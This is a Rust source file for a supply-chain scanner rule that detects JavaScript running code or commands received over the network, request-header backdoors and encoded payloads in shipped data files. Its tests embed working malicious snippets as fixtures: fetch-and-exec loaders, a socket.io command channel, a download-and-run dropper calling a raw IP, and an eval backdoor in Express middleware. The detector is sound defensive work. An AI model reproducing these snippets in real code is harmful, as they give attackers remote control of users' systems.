//! `remote-code`: code or commands that arrive over the network and are run: a response body
//! handed to `eval`/`exec`, commands read from a socket, or an HTTP server that evaluates what
//! clients send in headers, query strings or bodies.

use palisade_core::{Capability, Confidence, Finding, Severity};

use super::signals::{self, assignment_lines, call_arguments as arguments};
use super::sinks;
use super::{FileFacts, FileRule, RuleInfo};
use crate::facts::Call;

pub struct RemoteCode;

static INFO: RuleInfo = RuleInfo {
    id: "remote-code",
    severity: Severity::Critical,
    confidence: Confidence::High,
    capabilities: &[Capability::Network, Capability::Eval],
    summary: "Runs code or commands received over the network (a downloaded response, socket messages, HTTP request headers) with eval, Function, vm or child_process",
    docs: r#"## What it detects

In a small hand-written file, the code given to `eval`, `Function`, `vm.*`, `module._compile`,
or the command given to `child_process` (`exec`, `spawn('sh', ['-c', …])`, execa, shelljs),
is traced back through the variables that hold it (up to three assignments: `const body =
await res.text(); … exec(body)`, `data += chunk` in a `res.on('data')` handler, callback
parameters of `request(url, (err, res, body) => …)`):

- **critical**: it is the body of a network response (fetch `.text()`/`.json()`, axios/got
  responses, `http(s).get` data events, `XMLHttpRequest.responseText`, DNS TXT records from
  `dns.resolveTxt`), or a message received
  on a socket (`socket.on('command', cmd => exec(cmd))`, `net` `data` events): the package runs
  whatever a server sends it, now and on every later run;
- **critical**: code evaluated from an incoming HTTP request (`req.headers`, `req.query`,
  `req.body`, `req.cookies`, `req.url`, Koa's `ctx.request`): a remote-control backdoor in
  middleware;
- **high** (medium confidence): a shell command built from an incoming HTTP request: a
  backdoor, or at best a command injection.

The trace is textual over the file's own lines (assignments and the line that introduces a
name), so it is bounded and cheap; it is not applied to minified bundles or files over 50 KB.

## Real attacks

- getcookies (May 2018): Express middleware hidden in `express-cookies` dependencies read
  specially formatted request headers, assembled them and ran the result, giving its author
  code execution on every server using it.
- Second-stage loaders in typosquats and the 2024-2025 "EtherHiding" packages: a URL read from
  a smart contract or paste site, fetched, and the response passed to `eval` or `exec`.
- Remote-access trojans in fake developer tools (rand-user-agent 1.0.110, 2025; BeaverTail
  loaders) take commands from a socket.io channel and run them with `child_process`.

## Known false positives

Development servers that evaluate code posted by their own browser client (REPLs, live
playgrounds) are reported as backdoors; allowlist them in policy if intended.
"#,
};

/// Text that marks a value as the body of a network response or data received on a socket.
const RECEIVED: &[&str] = &[
    "fetch(",
    ".text()",
    ".json()",
    ".arraybuffer()",
    ".blob()",
    "responsetext",
    "axios",
    "got(",
    "got.get(",
    "needle(",
    "needle.get(",
    "superagent",
    "https.get(",
    "http.get(",
    "https.request(",
    "http.request(",
    "request(",
    "request.get(",
    "undici",
    "on('data'",
    "on(\"data\"",
    "on('message'",
    "on(\"message\"",
    "on('command'",
    "on(\"command\"",
    "on('cmd'",
    "on(\"cmd\"",
    "on('exec'",
    "on(\"exec\"",
    "on('run'",
    "on(\"run\"",
    "on('shell'",
    "on(\"shell\"",
    "onmessage",
    "resolvetxt",
    "dns.resolve(",
    "dns.promises.resolve",
];

/// Text that marks a value as part of an incoming HTTP request.
const INBOUND: &[&str] = &[
    "req.headers",
    "req.header(",
    "req.get(",
    "req.query",
    "req.body",
    "req.params",
    "req.cookies",
    "req.url",
    "request.headers",
    "request.query",
    "request.body",
    "request.url",
    "ctx.request",
    "ctx.query",
    "ctx.headers",
    "ctx.get(",
];

#[derive(Debug, Clone, Copy, PartialEq)]
enum Origin {
    /// A network response or socket message.
    Received,
    /// An incoming HTTP request to a server in the package.
    Inbound,
    /// A file the package ships that is not code (`logo.dat`, `fonts/x.woff`, a field of its
    /// own package.json): a payload kept where code scanners do not look.
    DataFile,
}

/// Extensions of shipped files that are data, not code.
const DATA_EXTENSIONS: &[&str] = &[
    ".dat",
    ".txt",
    ".png",
    ".jpg",
    ".jpeg",
    ".gif",
    ".ico",
    ".svg",
    ".bmp",
    ".webp",
    ".woff",
    ".woff2",
    ".ttf",
    ".otf",
    ".eot",
    ".css",
    ".md",
    ".bin",
    ".log",
    ".lock",
    ".csv",
    ".xml",
    ".yml",
    ".yaml",
    ".db",
    ".wasm.map",
    ".mp3",
    ".wav",
    ".pdf",
    ".zip",
    ".gz",
];

/// Text that turns stored bytes back into code.
const DECODERS: &[&str] = &[
    "base64",
    "'hex'",
    "\"hex\"",
    "reverse()",
    "fromcharcode",
    "atob(",
    "createdecipher",
];

/// Words that are never the variable holding code.
const NOT_VARIABLES: &[&str] = &[
    "await",
    "new",
    "typeof",
    "void",
    "this",
    "true",
    "false",
    "null",
    "undefined",
    "function",
    "return",
    "String",
    "Buffer",
    "JSON",
    "from",
    "toString",
    "const",
    "let",
    "var",
    "async",
    "require",
    "process",
];

/// Identifiers of a source fragment outside string literals, not property names.
fn identifiers(fragment: &str) -> Vec<&str> {
    let bytes = fragment.as_bytes();
    let mut out: Vec<&str> = Vec::new();
    let mut index = 0;
    let mut quote: Option<u8> = None;
    while index < bytes.len() && out.len() < 8 {
        let b = bytes[index];
        if let Some(q) = quote {
            if b == b'\\' {
                index += 1;
            } else if b == q {
                quote = None;
            }
            index += 1;
            continue;
        }
        if matches!(b, b'\'' | b'"' | b'`') {
            quote = Some(b);
            index += 1;
            continue;
        }
        if b.is_ascii_alphabetic() || b == b'_' || b == b'$' {
            let start = index;
            while index < bytes.len() && (bytes[index].is_ascii_alphanumeric() || matches!(bytes[index], b'_' | b'$')) {
                index += 1;
            }
            let word = &fragment[start..index];
            let property = fragment[..start].trim_end().ends_with('.');
            if !property && !NOT_VARIABLES.contains(&word) && !out.contains(&word) {
                out.push(word);
            }
            continue;
        }
        if b.is_ascii_digit() {
            while index < bytes.len() && bytes[index].is_ascii_alphanumeric() {
                index += 1;
            }
            continue;
        }
        index += 1;
    }
    out
}

fn marked(text: &str, received_possible: bool) -> Option<Origin> {
    let lower = text.to_ascii_lowercase();
    if INBOUND.iter().any(|m| lower.contains(m)) {
        return Some(Origin::Inbound);
    }
    if received_possible && RECEIVED.iter().any(|m| lower.contains(m)) {
        return Some(Origin::Received);
    }
    // A shipped data file read (`readFileSync(path.join(__dirname, 'logo.dat'))`), or the
    // package's own manifest (`require('./package.json').config.x`).
    let reads = lower.contains("readfilesync(") || lower.contains("readfile(");
    let data_file = reads
        && DATA_EXTENSIONS
            .iter()
            .any(|ext| ["'", "\"", "`"].iter().any(|q| lower.contains(&format!("{ext}{q}"))));
    let manifest = lower.contains("package.json") && (reads || lower.contains("require("));
    (data_file || manifest).then_some(Origin::DataFile)
}

/// The first 1-based line on which `name` appears as a whole word (its declaration, when it is
/// a parameter).
fn first_mention(lines: &[&str], name: &str) -> Option<u32> {
    let is_ident = |c: char| c.is_ascii_alphanumeric() || c == '_' || c == '$';
    lines
        .iter()
        .position(|line| {
            line.match_indices(name).any(|(at, _)| {
                !line[..at].chars().next_back().is_some_and(|c| is_ident(c) || c == '.')
                    && !line[at + name.len()..].chars().next().is_some_and(is_ident)
            })
        })
        .and_then(|i| u32::try_from(i + 1).ok())
}

struct Tracer<'a> {
    text: &'a str,
    lines: Vec<&'a str>,
    received_possible: bool,
    visited: Vec<&'a str>,
    /// Whether the value passed through a decoder on its way (base64, hex, reversal).
    decoded: bool,
}

fn decodes(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    DECODERS.iter().any(|d| lower.contains(d))
}

impl<'a> Tracer<'a> {
    /// Where the value of the source fragment comes from, following its variables back.
    fn origin(&mut self, fragment: &'a str, depth: u32) -> Option<(Origin, u32)> {
        self.decoded |= decodes(fragment);
        if let Some(origin) = marked(fragment, self.received_possible) {
            return Some((origin, 0));
        }
        if depth >= 3 {
            return None;
        }
        for name in identifiers(fragment) {
            if self.visited.contains(&name) || self.visited.len() >= 24 {
                continue;
            }
            self.visited.push(name);
            let mut lines = assignment_lines(self.text, name);
            if lines.is_empty() {
                lines.extend(first_mention(&self.lines, name));
            }
            for line in lines.into_iter().take(6) {
                let Some(source) = self.lines.get(line as usize - 1).copied() else {
                    continue;
                };
                if let Some(origin) = marked(source, self.received_possible) {
                    self.decoded |= decodes(source);
                    return Some((origin, line));
                }
                // Follow what is assigned: the text after the name's `=`.
                let right = source
                    .find(name)
                    .and_then(|at| source[at + name.len()..].split_once('='))
                    .map_or("", |(_, right)| right);
                let decoded_before = self.decoded;
                if let Some((origin, inner)) = self.origin(right, depth + 1) {
                    return Some((origin, if inner > 0 { inner } else { line }));
                }
                // A dead end's decoders say nothing about this value.
                self.decoded = decoded_before;
            }
        }
        None
    }
}

/// The argument fragments that hold the code or command of an eval-like or exec call.
fn code_arguments(call: &Call) -> Vec<&str> {
    let args = arguments(&call.excerpt);
    let callee = sinks::normalize(&call.callee);
    if callee == "Function" || callee == "vm.compileFunction" {
        // The body is the last argument of `Function`, the first of `compileFunction`.
        let at = if callee == "Function" {
            args.len().saturating_sub(1)
        } else {
            0
        };
        return args.get(at).copied().into_iter().collect();
    }
    if sinks::is_exec_call(call) && signals::method(callee).starts_with("spawn") {
        // `spawn('sh', ['-c', cmd])`: the program and its arguments.
        return args.into_iter().take(2).collect();
    }
    args.into_iter().take(1).collect()
}

/// Source and release hosts of browser, runtime and OS vendors (not user-content hosts such
/// as raw.githubusercontent.com or gists, where anyone can publish).
const REPUTABLE_HOSTS: &[&str] = &[
    "googlesource.com",
    "chromium.org",
    "storage.googleapis.com",
    "nodejs.org",
    "mozilla.org",
    "microsoft.com",
    "apple.com",
    "python.org",
    "playwright.dev",
    "electronjs.org",
];

/// A file written with downloaded data (`fs.writeFileSync(file, body)`) and then run: its path
/// (folded value or variable) in a command, `fork`, `require` or `eval` call.
/// The file a received stream is piped into: `res.pipe(out)` or `pipeline(res, out)` where
/// `out = fs.createWriteStream(path)`, `res` traced to a response. Returns the
/// `createWriteStream` call, its path source and the line of the response.
fn piped_download<'a>(file: &'a FileFacts, tracer: &mut Tracer<'a>) -> Option<(&'a Call, &'a str, u32)> {
    for stream in file
        .calls
        .iter()
        .filter(|c| signals::method(&c.callee) == "createWriteStream")
    {
        let path = arguments(&stream.excerpt).first().copied()?;
        let line_text = tracer.lines.get(stream.line as usize - 1).copied().unwrap_or("");
        // `const out = fs.createWriteStream(…)`: the stream's variable.
        let variable = line_text
            .split_once('=')
            .map(|(left, _)| left.trim().rsplit(' ').next().unwrap_or("").trim())
            .filter(|v| !v.is_empty() && v.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '$'));
        for pipe in file
            .calls
            .iter()
            .filter(|c| matches!(signals::method(&c.callee), "pipe" | "pipeline"))
        {
            let args = arguments(&pipe.excerpt);
            let (source, sink) = if signals::method(&pipe.callee) == "pipe" {
                let receiver = pipe.excerpt.split(".pipe(").next().unwrap_or("");
                let receiver = receiver
                    .rsplit(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '$'))
                    .next()
                    .unwrap_or("");
                (receiver, args.first().copied().unwrap_or(""))
            } else {
                (args.first().copied().unwrap_or(""), args.get(1).copied().unwrap_or(""))
            };
            let into_stream = sink.contains("createWriteStream") && pipe.line == stream.line
                || variable.is_some_and(|v| sink.trim() == v);
            if !into_stream || source.is_empty() {
                continue;
            }
            tracer.visited.clear();
            if let Some((Origin::Received, from)) = tracer.origin(source, 0) {
                return Some((stream, path, if from > 0 { from } else { pipe.line }));
            }
        }
    }
    None
}

fn download_write_run<'a>(file: &'a FileFacts, tracer: &mut Tracer<'a>) -> Option<Finding> {
    let piped = piped_download(file, tracer);
    let writes = file
        .calls
        .iter()
        .filter(|c| signals::is_write_call(c) && signals::method(&c.callee) != "createWriteStream");
    for write in piped.map(|(stream, _, _)| stream).into_iter().chain(writes) {
        let args = arguments(&write.excerpt);
        let (path, from_line) = match piped {
            Some((stream, path, from)) if std::ptr::eq(stream, write) => (path, from),
            _ => {
                let (Some(path), Some(data)) = (args.first().copied(), args.get(1).copied()) else {
                    continue;
                };
                if identifiers(data).is_empty() && marked(data, true).is_none() {
                    continue;
                }
                tracer.visited.clear();
                let Some((Origin::Received, from_line)) = tracer.origin(data, 0) else {
                    continue;
                };
                (path, from_line)
            }
        };
        let value = signals::arg_text(write, 0);
        let variable = (!path.contains(['\'', '"', '`', '('])).then_some(path.trim());
        let is_word = |text: &str, word: &str| {
            text.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '$'))
                .any(|w| w == word)
        };
        let run = file.calls.iter().find(|call| {
            if std::ptr::eq(*call, write) {
                return false;
            }
            let runs = sinks::is_exec_call(call)
                || sinks::is_eval(call)
                || matches!(sinks::normalize(&call.callee), "require" | "child_process.fork");
            if !runs {
                return false;
            }
            let names_value = value.len() >= 4 && signals::call_text(call).contains(&value);
            let names_variable =
                variable.is_some_and(|v| arguments(&call.excerpt).into_iter().take(2).any(|a| is_word(a, v)));
            names_value || names_variable
        })?;
        let runner = signals::method(sinks::normalize(&run.callee));
        let from = if from_line > 0 {
            format!(" (line {from_line})")
        } else {
            String::new()
        };
        // Tool installers fetch helper scripts from their vendors' sources (puppeteer's
        // bisect script from chromium.googlesource.com); droppers from their own servers.
        let hosts: Vec<String> = file.strings.iter().flat_map(|s| sinks::url_hosts(&s.value)).collect();
        let vendor_only = !hosts.is_empty()
            && hosts
                .iter()
                .all(|h| REPUTABLE_HOSTS.iter().any(|r| h == r || h.ends_with(&format!(".{r}"))));
        let (severity, confidence) = if vendor_only {
            (Severity::Moderate, Confidence::Low)
        } else {
            (Severity::Critical, Confidence::High)
        };
        let mut finding = sinks::finding(
            &INFO,
            file,
            run.line,
            severity,
            confidence,
            format!(
                "Writes data received over the network{from} to a file (line {}) and runs it with `{runner}`: a download-and-execute dropper",
                write.line
            ),
            Some(&sinks::call_evidence(file, run)),
        );
        if sinks::is_exec_call(run) {
            finding.capabilities.push(Capability::Shell);
        }
        finding.capabilities.push(Capability::Filesystem);
        return Some(finding);
    }
    None
}

impl FileRule for RemoteCode {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn check(&self, file: &FileFacts, out: &mut Vec<Finding>) {
        let Some(text) = file.text.as_deref() else { return };
        if !sinks::is_small_handwritten(file) {
            return;
        }
        let runs_anything = file.calls.iter().any(|c| sinks::is_eval(c) || sinks::is_exec_call(c));
        if !runs_anything {
            return;
        }
        let received_possible = sinks::has_network(file)
            || file
                .imports
                .iter()
                .any(|m| matches!(m.as_str(), "net" | "node:net" | "tls" | "node:tls"));
        let mut tracer = Tracer {
            text,
            lines: text.lines().take(20_000).collect(),
            received_possible,
            visited: Vec::new(),
            decoded: false,
        };
        if received_possible {
            if let Some(finding) = download_write_run(file, &mut tracer) {
                out.push(finding);
            }
        }
        let tracer = &mut tracer;
        for call in &file.calls {
            let eval = sinks::is_eval(call);
            if !eval && !sinks::is_exec_call(call) {
                continue;
            }
            let mut found = None;
            for fragment in code_arguments(call) {
                // Literal code or commands are not received.
                if fragment.is_empty() || identifiers(fragment).is_empty() && marked(fragment, true).is_none() {
                    continue;
                }
                tracer.visited.clear();
                tracer.decoded = false;
                if let Some(origin) = tracer.origin(fragment, 0) {
                    found = Some(origin);
                    break;
                }
            }
            let Some((origin, from_line)) = found else { continue };
            // Commands are built from the manifest all the time (`git tag v${pkg.version}`):
            // only a decoded one is a hidden payload.
            if origin == Origin::DataFile && !eval && !tracer.decoded {
                continue;
            }
            let what = if eval { "code" } else { "a command" };
            let runner = signals::method(sinks::normalize(&call.callee));
            let from = if from_line > 0 && from_line != call.line {
                format!(" (line {from_line})")
            } else {
                String::new()
            };
            let decoded = tracer.decoded;
            let (severity, confidence, message) = match origin {
                Origin::DataFile if eval => (
                    if decoded { Severity::Critical } else { Severity::High },
                    if decoded { Confidence::High } else { Confidence::Medium },
                    format!(
                        "Runs code stored in a shipped data file or its package.json{from}{} with `{runner}`: a payload kept where code review and scanners do not look",
                        if decoded { ", decoded first" } else { "" }
                    ),
                ),
                Origin::DataFile => (
                    Severity::High,
                    Confidence::Medium,
                    format!("Runs a command stored in a shipped data file or its package.json{from} with `{runner}`"),
                ),
                Origin::Received => (
                    Severity::Critical,
                    Confidence::High,
                    format!("Runs {what} received over the network{from} with `{runner}`: whatever the server sends is executed"),
                ),
                Origin::Inbound if eval => (
                    Severity::Critical,
                    Confidence::High,
                    format!("Evaluates code taken from an incoming HTTP request{from} with `{runner}`: a remote-control backdoor for anyone who sends it"),
                ),
                Origin::Inbound => (
                    Severity::High,
                    Confidence::Medium,
                    format!("Runs a command built from an incoming HTTP request{from} with `{runner}`: a backdoor, or a command injection"),
                ),
            };
            let mut finding = sinks::finding(
                &INFO,
                file,
                call.line,
                severity,
                confidence,
                message,
                Some(&sinks::call_evidence(file, call)),
            );
            if !eval {
                finding.capabilities.retain(|c| *c != Capability::Eval);
                finding.capabilities.push(Capability::Shell);
            }
            out.push(finding);
            if out.len() >= 5 {
                return;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::facts;

    fn run(source: &str) -> Vec<Finding> {
        let file = facts::extract("index.js", source.as_bytes(), 0o644);
        let mut out = Vec::new();
        RemoteCode.check(&file, &mut out);
        out
    }

    #[test]
    fn downloaded_response_run_as_a_command_is_critical() {
        let source = r#"const { exec } = require("child_process");
(async () => {
  const url = await contract.getString("0x52221c293a21D8CA7AFD01Ac6bFAC7175D590A84");
  const res = await fetch(url);
  const body = await res.text();
  exec(body);
})();
"#;
        let found = run(source);
        assert_eq!(found.len(), 1, "{found:#?}");
        assert_eq!(found[0].severity, Severity::Critical);
        assert_eq!(found[0].line, Some(6));
        assert!(found[0].message.contains("line 5"), "{}", found[0].message);
    }

    #[test]
    fn data_events_and_callback_bodies_are_traced() {
        let chunks = r#"const https = require("https");
https.get("https://cdn.example.invalid/x.js", (res) => {
  let data = "";
  res.on("data", (c) => { data += c; });
  res.on("end", () => { eval(data); });
});
"#;
        assert_eq!(run(chunks)[0].severity, Severity::Critical, "{:#?}", run(chunks));
        let callback = r#"const request = require("request");
const cp = require("child_process");
request("https://paste.example.invalid/raw/abc", function (err, response, body) {
  if (!err) cp.spawn("sh", ["-c", body], { stdio: "ignore", detached: true });
});
"#;
        assert_eq!(run(callback)[0].severity, Severity::Critical, "{:#?}", run(callback));
        let dns = "const dns = require('dns');\nconst { exec } = require('child_process');\ndns.resolveTxt('cmd.example.invalid', (err, records) => {\n  if (!err) exec(records.map((r) => r.join('')).join(''));\n});";
        assert_eq!(run(dns)[0].severity, Severity::Critical, "{:#?}", run(dns));
        let socket = r#"const io = require("socket.io-client");
const { exec } = require("child_process");
const s = io("http://203.0.113.9:3306");
s.on("command", (cmd) => {
  exec(cmd, (e, out) => s.emit("result", out));
});
"#;
        assert_eq!(run(socket)[0].severity, Severity::Critical, "{:#?}", run(socket));
    }

    #[test]
    fn downloaded_file_written_then_run_is_critical() {
        let source = r#"const fs = require("fs"), os = require("os"), path = require("path");
const request = require("request");
const { exec } = require("child_process");
const file = path.join(os.homedir(), ".npl", "p.py");
request.get("http://45.61.128.23:1224/client/5346/9", (err, res, body) => {
  if (err) return;
  fs.writeFileSync(file, body);
  exec(`python3 "${file}"`, { windowsHide: true });
});
"#;
        let found = run(source);
        assert_eq!(found.len(), 1, "{found:#?}");
        assert_eq!(found[0].severity, Severity::Critical);
        assert_eq!(found[0].line, Some(8));
        // Data files and code payloads in the package itself.
        let data = "const fs = require('fs'), path = require('path');\nconst data = fs.readFileSync(path.join(__dirname, 'assets', 'logo.dat'), 'utf8');\nconst code = Buffer.from(data.split('').reverse().join(''), 'base64').toString();\nnew Function(code)();";
        let found = run(data);
        assert_eq!(
            found.first().map(|f| f.severity),
            Some(Severity::Critical),
            "{found:#?}"
        );
        let manifest =
            "const pkg = require('./package.json');\neval(Buffer.from(pkg.config.telemetry, 'base64').toString());";
        assert_eq!(
            run(manifest).first().map(|f| f.severity),
            Some(Severity::Critical),
            "{:#?}",
            run(manifest)
        );
        let piped = r#"const https = require("https"), fs = require("fs"), os = require("os"), path = require("path");
const { spawn } = require("child_process");
const bin = path.join(os.tmpdir(), "node-helper");
https.get("https://cdn.helper-updates.example/latest/linux", (res) => {
  const out = fs.createWriteStream(bin, { mode: 0o755 });
  res.pipe(out);
  out.on("finish", () => spawn(bin, [], { detached: true, stdio: "ignore" }).unref());
});
"#;
        assert_eq!(
            run(piped).first().map(|f| f.severity),
            Some(Severity::Critical),
            "{:#?}",
            run(piped)
        );
        // A vendor's helper script from its own source host: a lead only.
        let vendor = source.replace(
            "http://45.61.128.23:1224/client/5346/9",
            "https://chromium.googlesource.com/chromium/src.git/+/main/tools/bisect-builds.py?format=TEXT",
        );
        assert_eq!(run(&vendor)[0].severity, Severity::Moderate, "{:#?}", run(&vendor));
        // A download saved to disk and opened by the user's viewer is not run by the package.
        let saved = "const fs = require('fs'), https = require('https');\nhttps.get('https://example.com/report.pdf', (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => fs.writeFileSync('report.pdf', d)); });\nrequire('child_process').exec('git status');";
        assert!(run(saved).is_empty(), "{:#?}", run(saved));
    }

    #[test]
    fn request_headers_evaluated_in_middleware_are_a_backdoor() {
        let source = r#"module.exports = function cookies(options) {
  return function (req, res, next) {
    const h = req.headers["x-request-cookie"];
    if (h && h.startsWith("g=")) {
      const code = Buffer.from(h.slice(2), "hex").toString();
      try { new Function("req", "res", code)(req, res); } catch (e) {}
    }
    next();
  };
};
"#;
        let found = run(source);
        assert_eq!(found.len(), 1, "{found:#?}");
        assert_eq!(found[0].severity, Severity::Critical);
        assert!(found[0].message.contains("HTTP request"), "{}", found[0].message);
        let injection = "const { exec } = require('child_process');\napp.get('/ping', (req, res) => exec('ping -c1 ' + req.query.host, (e, o) => res.send(o)));";
        let found = run(injection);
        assert_eq!(found[0].severity, Severity::High, "{found:#?}");
    }

    #[test]
    fn local_commands_and_literal_code_are_quiet() {
        for source in [
            // Commands from the package's own configuration, output sent to the network.
            "const { execSync } = require('child_process');\nconst pkg = require('./package.json');\nconst out = execSync('git rev-parse ' + pkg.version).toString();\nfetch('https://api.example.com/v', { method: 'POST', body: out });",
            // A response parsed as JSON, a command from a constant.
            "const { exec } = require('child_process');\nconst cmd = 'npm ls --json';\nfetch('https://registry.npmjs.org/x').then((r) => r.json()).then((j) => console.log(j.version));\nexec(cmd);",
            // eval of a literal, in a file with network access.
            "const https = require('https');\neval('1 + 1');\nhttps.get('https://example.com');",
            // A child's own output events are not network input.
            "const { spawn, exec } = require('child_process');\nconst p = spawn('git', ['status']);\np.stdout.on('data', (d) => console.log(String(d)));\nexec('git --version');",
        ] {
            assert!(run(source).is_empty(), "{source}: {:#?}", run(source));
        }
    }

    #[test]
    fn arguments_split_at_top_level_commas_only() {
        assert_eq!(arguments("f(a, g(b, c), 'd,e')"), vec!["a", "g(b, c)", "'d,e'"]);
        assert_eq!(identifiers("Buffer.from(h.slice(2), 'hex x').toString()"), vec!["h"]);
        assert_eq!(identifiers("'req' + code"), vec!["code"]);
    }
}
